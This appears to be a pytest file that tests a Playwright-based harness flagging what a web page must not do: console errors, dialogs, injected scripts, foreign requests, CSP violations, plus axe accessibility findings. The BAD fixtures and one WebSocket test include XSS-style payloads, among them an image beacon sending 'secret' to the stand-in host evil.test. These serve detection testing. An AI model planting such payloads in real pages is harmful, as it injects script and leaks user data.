"""The watch itself: whatever a page must not do is seen."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from .axe import findings, grave
from .beacon import Beacon
from .payloads import ELEMENTS, INSPECT
from .watching import Watched

if TYPE_CHECKING:
    from playwright.sync_api import Browser

BAD = {
    "console": "<script>console.error('broken')</script>",
    "page error": "<script>setTimeout(() => { throw new Error('thrown') })</script>",
    "unhandled": "<script>Promise.reject(new Error('refused'))</script>",
    "a dialog": "<script>alert(1)</script>",
    "a script of the data ran": "<img src=x onerror=\"pwned('here')\">",
    "a foreign request": "<img src='http://evil.test/?d=secret'>",
    "a window was opened": "<script>open('/other')</script>",
    "CSP": "<iframe src='/frame'></iframe>",
}


class Site:
    """One page, with or without a policy."""

    def __init__(self) -> None:
        self.body, self.policy = "", ""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                if site.policy:
                    self.send_header("Content-Security-Policy", site.policy)
                self.end_headers()
                self.wfile.write(
                    f"<!doctype html><title>t</title><body>{site.body if self.path == '/' else ''}".encode()
                )

            def log_message(self, *what: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()
    thread = threading.Thread(target=made.server.serve_forever, daemon=True)
    thread.start()
    yield made
    made.server.shutdown()
    made.server.server_close()
    thread.join(10)


@pytest.mark.parametrize("kind", BAD)
def test_what_a_page_must_not_do_is_a_fault(browser: Browser, site: Site, kind: str) -> None:
    site.body = BAD[kind]
    site.policy = "default-src 'self'; frame-src 'none'" if kind == "CSP" else ""
    watched = Watched(browser, site.url)
    watched.go().wait_for_timeout(300)
    with pytest.raises(AssertionError, match=kind):
        watched.close()


def test_a_quiet_page_has_none(browser: Browser, site: Site, beacon: Beacon) -> None:
    before = beacon.connections
    watched = Watched(browser, site.url)
    watched.go()
    watched.close()
    assert beacon.connections == before


def test_a_connection_that_is_no_request_is_counted(browser: Browser, site: Site, beacon: Beacon) -> None:
    site.body = "<script>new WebSocket('ws://secret.evil.test/').onerror = () => document.title = 'over'</script>"
    before = beacon.connections
    watched = Watched(browser, site.url)
    watched.go().wait_for_function("document.title == 'over'")
    watched.context.close()
    assert beacon.connections > before


def test_axe_finds_what_cannot_be_read(browser: Browser, site: Site) -> None:
    site.body = "<button></button><p style='color:#ccc;background:#fff'>pale</p>"
    watched = Watched(browser, site.url, bypass_csp=True)
    found = grave(findings(watched.go()))
    assert [line.split(":")[0] for line in found if "button-name" in line] == ["critical button-name"]
    assert any("color-contrast" in line for line in found)
    watched.close()


@pytest.mark.slow
def test_the_corpus_bites_a_page_that_trusts_it(browser: Browser, site: Site) -> None:
    """Else it would prove nothing about one that does not."""
    watched = Watched(browser, site.url)
    tame = []
    for payload in ELEMENTS:
        site.body = payload
        watched.faults.clear()
        try:
            found = watched.go().evaluate(INSPECT)
        except Exception as error:  # the page was led away
            found = [str(error)]
        if not found and not watched.faults:
            tame.append(payload)
    watched.context.close()
    assert not tame
